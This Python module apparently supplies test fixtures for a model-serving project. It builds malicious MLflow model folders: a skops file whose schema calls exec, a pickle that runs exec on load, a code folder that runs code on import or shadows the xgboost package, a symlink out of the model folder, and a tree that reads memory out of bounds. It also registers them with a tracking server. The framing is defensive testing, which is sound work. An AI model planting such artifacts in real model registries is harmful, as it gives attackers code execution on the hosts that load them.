"""Models an attacker would register: each runs `code` when loaded by MLflow's own
loaders, while naming a loader or format that looks harmless."""

from __future__ import annotations

import io
import json
import pickle
import shutil
import zipfile
from pathlib import Path

import yaml


def _iris_tree():
    from sklearn.tree import DecisionTreeClassifier

    from modelplane.demo import iris_features

    features, labels = iris_features()
    return DecisionTreeClassifier(max_depth=2, random_state=0).fit(features, labels)


def _save_tree(folder: Path) -> None:
    import mlflow.sklearn

    mlflow.sklearn.save_model(
        _iris_tree(), folder, serialization_format="skops", skops_trusted_types=["sklearn.tree._tree.Tree"]
    )


def _edit_mlmodel(folder: Path, edit) -> None:
    path = folder / "MLmodel"
    mlmodel = yaml.safe_load(path.read_text())
    edit(mlmodel)
    path.write_text(yaml.safe_dump(mlmodel))


def skops_running(code: str, folder: Path) -> Path:
    """A scikit-learn model in skops format whose file calls `exec(code)` as it is built,
    and whose MLmodel file lists `builtins.exec` among its trusted types."""
    _save_tree(folder)
    model_file = folder / "model.skops"
    original = zipfile.ZipFile(io.BytesIO(model_file.read_bytes()))
    schema = json.loads(original.read("schema.json"))
    text = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(code),
        "is_json": True,
        "__id__": 1_000_001,
    }
    arguments = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [text],
        "__id__": 1_000_002,
    }
    schema["content"]["content"]["max_depth"] = {
        "__class__": "exec",
        "__module__": "builtins",
        "__loader__": "ConstructorFromReduceNode",
        "content": arguments,
        "__id__": 1_000_003,
    }
    crafted = io.BytesIO()
    with zipfile.ZipFile(crafted, "w") as archive:
        for name in original.namelist():
            archive.writestr(name, json.dumps(schema) if name == "schema.json" else original.read(name))
    model_file.write_bytes(crafted.getvalue())
    _edit_mlmodel(
        folder,
        lambda mlmodel: mlmodel["flavors"]["sklearn"].update(
            skops_trusted_types=["builtins.exec", "sklearn.tree._tree.Tree"]
        ),
    )
    return folder


class _Runs:
    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def lightgbm_unpickling(code: str, folder: Path) -> Path:
    """A model with MLflow's LightGBM loader whose model class is not a Booster, so MLflow
    unpickles its file: a pickle that calls `exec(code)`."""
    _save_tree(folder)
    (folder / "model.skops").unlink()
    (folder / "model.pkl").write_bytes(pickle.dumps(_Runs(code)))

    def lightgbm(mlmodel: dict) -> None:
        flavors = mlmodel["flavors"]
        flavors["python_function"].update(loader_module="mlflow.lightgbm", model_path="model.pkl")
        flavors["lightgbm"] = {
            "lgb_version": "4.5.0",
            "data": "model.pkl",
            "model_class": "lightgbm.LGBMClassifier",
            "serialization_format": "cloudpickle",
            "code": None,
        }
        del flavors["sklearn"]

    _edit_mlmodel(folder, lightgbm)
    return folder


def xgboost_importing(code: str, folder: Path, shadow: bool) -> Path:
    """A model with MLflow's XGBoost loader and a code folder, which MLflow puts on
    sys.path: its model class is a module of that folder (or, with `shadow`, the folder
    holds a package named xgboost in place of the real one). Importing runs `code`."""
    _save_tree(folder)
    (folder / "model.skops").rename(folder / "model.xgb")
    package = folder / "code" / ("xgboost" if shadow else "")
    package.mkdir(parents=True, exist_ok=True)
    module = package / ("__init__.py" if shadow else "evilmod.py")
    module.write_text(f"exec({code!r})\n" + ("" if shadow else "class Evil:\n    pass\n"))

    def xgboost(mlmodel: dict) -> None:
        flavors = mlmodel["flavors"]
        flavors["python_function"].update(loader_module="mlflow.xgboost", data="model.xgb", code="code")
        flavors["python_function"].pop("model_path", None)
        flavors["xgboost"] = {
            "xgb_version": "2.1.0",
            "data": "model.xgb",
            "model_format": "xgb",
            "code": None,
            "model_class": "xgboost.core.Booster" if shadow else "evilmod.Evil",
        }
        del flavors["sklearn"]

    _edit_mlmodel(folder, xgboost)
    return folder


def linking_out(target: Path, folder: Path) -> Path:
    """A plain skops model whose requirements.txt is a link to a file outside its folder."""
    _save_tree(folder)
    (folder / "requirements.txt").unlink()
    (folder / "requirements.txt").symlink_to(target)
    return folder


def tree_pointing_outside(folder: Path) -> Path:
    """A decision tree in skops format whose root's left child lies far past its nodes:
    predicting with it would read memory outside the tree."""
    import mlflow.sklearn

    tree = _iris_tree()
    tree.tree_.children_left[0] = 1_000_000  # a view of the tree's own node storage
    mlflow.sklearn.save_model(
        tree, folder, serialization_format="skops", skops_trusted_types=["sklearn.tree._tree.Tree"]
    )
    return folder


def register(folder: Path, name: str, tracking_uri: str) -> str:
    """Registers the model folder as a new version of `name`; its models:/ URI."""
    import mlflow

    mlflow.set_tracking_uri(tracking_uri)
    with mlflow.start_run() as run:
        mlflow.log_artifacts(str(folder), "model")
    version = mlflow.register_model(f"runs:/{run.info.run_id}/model", name).version
    shutil.rmtree(folder)
    return f"models:/{name}/{version}"
